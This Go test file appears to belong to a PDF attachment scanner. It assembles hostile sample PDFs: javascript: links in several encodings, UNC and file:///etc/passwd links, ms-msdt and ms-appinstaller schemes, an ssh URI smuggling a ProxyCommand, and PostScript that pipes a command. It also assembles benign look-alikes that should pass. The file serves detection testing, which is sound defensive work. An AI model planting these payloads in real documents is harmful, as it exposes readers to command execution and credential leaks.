package attachment

import (
	"encoding/hex"
	"strings"
)

// linked is a document with a link that does something when somebody presses it.
func linked(action string, objects ...string) []byte {
	return documentOf(append(append(pages(""), "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/F 4/A"+action+">>"), objects...)...)
}

func with(objects ...string) []byte { return documentOf(append(pages(""), objects...)...) }

// hostileOutside are documents that fetch something when they are shown or a link is
// pressed, or that hold PostScript.
func hostileOutside() []hostile {
	wide := "\xfe\xff\x00J\x00a\x00v\x00a\x00S\x00c\x00r\x00i\x00p\x00t\x00:\x00x"
	list := map[string][]byte{
		"content of a page":         with(`<</Length 0/F(\\\\host\\share\\c)>>stream` + "\n\nendstream"),
		"content, behind a comment": with("<</Length 0/#46%x\n(a)%y\n>>%z\nstream\n\nendstream"),
		"content, by reference":     with("<</Length 0/F 5 0 R>>stream\n\nendstream", "<</F(http://example.com/c)>>"),
		"content, said and unsaid":  with("<</Length 0/F(a)/F null>>stream\n\nendstream"),
		"font":                      with("<</Length 0/F<</FS/URL/F(http://example.com/font)>>>>stream\n\nendstream"),
		"picture":                   with("<</Subtype/Image/F(http://example.com/x)/FFilter/DCTDecode/Length 0>>stream\n\nendstream"),
		"sound":                     with("<</Type/Sound/R 8000/F(http://example.com/x)/Length 0>>stream\n\nendstream"),
		"page of another file":      with(stream(`/Subtype/Form/Ref<</F(a.pdf)/Page 0>>`, "")),
		"page of another, referred": with(stream("/Subtype/Form/Ref 5 0 R", ""), "<</F(a.pdf)/Page 0>>"),
		"OPI":                       with(stream("/Subtype/Form/OPI<</2.0<</F(a)>>>>", "")),
		"OPI behind a reference":    with(stream("/Subtype/Form/OPI 5 0 R", ""), "null"),
		"movie":                     with("<</Type/Annot/Subtype/Movie/Movie<</F(http://example.com/x.mov)>>/A true>>"),
		"movie, packed":             with(objectStreamOf(asUsual, flated, "<</Type/Annot/Subtype/Movie/Movie<</F(a.mov)>>>>")),
		"screen":                    with("<</Type/Annot/Subtype/Screen/A<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</F(http://a)>>>>>>>>>>"),
		"address as a file":         with("<</FS/URL/F(http://example.com/v)>>"),
		"PostScript":                with(stream("/Type/XObject/Subtype/PS", "(%pipe%id) (r) file")),
		"PostScript, by reference":  with(stream("/Type/XObject/Subtype 5 0 R", "quit"), "/PS"),
		"PostScript in a form":      with(stream("/Subtype/Form/Subtype2/PS/PS 5 0 R", ""), stream("", "quit")),
		"captured from the web":     documentOf(pages("/SpiderInfo<</V 1.0/C[<</URL(http://example.com)>>]>>")...),
		"base of addresses":         documentOf(pages("/URI<</Base(javascript:)>>")...),
		"script in a link":          linked("<</S/URI/URI(javascript:alert\\(1\\))>>"),
		"script, its case mixed":    linked("<</S/URI/URI( \tJavaScript:x)>>"),
		"script, escaped":           linked("<</S/URI/URI(\\152a\\\nva\\tscript:x)>>"),
		"script in UTF-16":          linked("<</S/URI/URI(" + wide + ")>>"),
		"script in hexadecimal":     linked("<</S/URI/URI<" + hex.EncodeToString([]byte(wide)) + ">>>"),
		"script, by reference":      linked("<</S/URI/URI 5 0 R>>", "(javascript:x)"),
		"script, packed":            linked("<</S/URI/URI 10 0 R>>", objectStreamOf(asUsual, flated, "(javascript:x)")),
		"file of the reader's":      linked("<</S/URI/URI(file:///etc/passwd)>>"),
		"file on another computer":  linked(`<</S/GoToR/F(\\\\host\\a.pdf)/D[0/Fit]>>`),
		"file, in its description":  linked(`<</S/GoToR/F<</UF(\\\\host\\a.pdf)>>/D[0/Fit]>>`),
		"address of a computer":     linked(`<</S/URI/URI(\\\\host\\a)>>`),
		"program's scheme":          linked("<</S/URI/URI(ms-msdt:/id PCWDiagnostic)>>"),
		"program's scheme, long":    linked("<</S/URI/URI(ms-appinstaller:?source=https://example.com/a.msix)>>"),
		"scheme of 70 characters":   linked("<</S/URI/URI(" + strings.Repeat("x", 70) + ":a)>>"),
		"drive's letter":            linked("<</S/URI/URI(C:/Windows/System32/calc.exe)>>"),
		"computer without a scheme": linked("<</S/URI/URI(//host/a)>>"),
		"base for a program":        documentOf(pages("/URI<</Base(ms-word:ofe|u|)>>")...),
		"scheme, by reference":      linked("<</S/URI/URI 5 0 R>>", "(search-ms:query=x)"),
		"scheme, packed":            linked("<</S/URI/URI 10 0 R>>", objectStreamOf(asUsual, flated, "(ssh://-oProxyCommand=calc)")),
		"view of a script's source": linked("<</S/URI/URI(view-source:javascript:1)>>"),
		"thread of another file":    linked(`<</S/Thread/F(\\\\host\\a.pdf)/D 0>>`),
	}
	var all []hostile
	for title, content := range list {
		all = append(all, hostile{"outside: " + title, "a.pdf", content, codeFinding})
	}
	return all
}

// fitNeighbours look like those and are what usual programs write.
func fitNeighbours() map[string][]byte {
	return map[string][]byte{
		"flags of annotations":     with("<</Type/Annot/Subtype/Widget/FT/Tx/F 4/T(a)>>", "<</F 28/Subtype/Link>>", objectStreamOf(asUsual, flated, "<</F 4>>")),
		"flags behind a reference": with("<</Type/Annot/Subtype/Link/F 5 0 R>>", "4"),
		"embedded font":            with("<</Type/FontDescriptor/FontFile2 5 0 R/Flags 4>>", stream("/Length1 4/Filter/FlateDecode", flated("font"))),
		"pictures":                 with(stream("/Subtype/Image/Width 1/Height 1/Filter/FlateDecode", flated("x")), stream("/Subtype/Form/BBox[0 0 1 1]", "q BI /W 1 /F /Fl ID x EI Q")),
		"field in a border":        with("<</BS<</W 1/S/S>>/Border[0 0 1]/MK<</BC[0]>>/F 4>>"),
		"font called F":            with("<</Font<</F 5 0 R/F1 5 0 R>>>>", "<</Type/Font>>"),
		"elements that refer":      with("<</S/Span/Ref[5 0 R]>>", "<</S/Note>>"),
		"links of all kinds": linked("<</S/URI/URI(https://example.com/?a=javascript:x)>>", "<</S/URI/URI(mailto:a@example.com)>>", "<</S/URI/URI(HTTP://example.com)>>",
			"<</S/URI/URI(tel:0123)>>", "<</S/URI/URI(page.html)>>", "<</S/URI/URI(#page=2)>>", "<</S/URI/URI()>>", "<</S/URI/URI(folder/a:b)>>", "<</S/URI/URI 12 0 R>>", "(https://example.com/)", "<</S/URI/URI<FEFF0068007400740070003A>>>"),
		"link to a file beside":     linked("<</S/GoToR/F(a.pdf)/D[0/Fit]>>", "<</S/GoToR/F<</Type/Filespec/F(b.pdf)/UF<FEFF0062002E007000640066>>>/D(x)>>"),
		"base of ordinary links":    documentOf(pages("/URI<</Base(https://example.com/)>>")...),
		"words that are no address": with("(File: a title)", "(Note: a title)", "<</Title(Microsoft Word: a.docx)>>", "<</S/URI/URI(https://example.com/)>>", "(javascript is a language)", "<</Title(javascript:)/Subject(file:///a)/Contents(\\\\\\\\host)>>", "(a \\\\\\\\b)"),
		"sound within":              with(stream("/Type/Sound/R 8000", "x")),
		"function of PostScript":    with(stream("/FunctionType 4/Domain[0 1]/Range[0 1]", "{dup}")),
	}
}
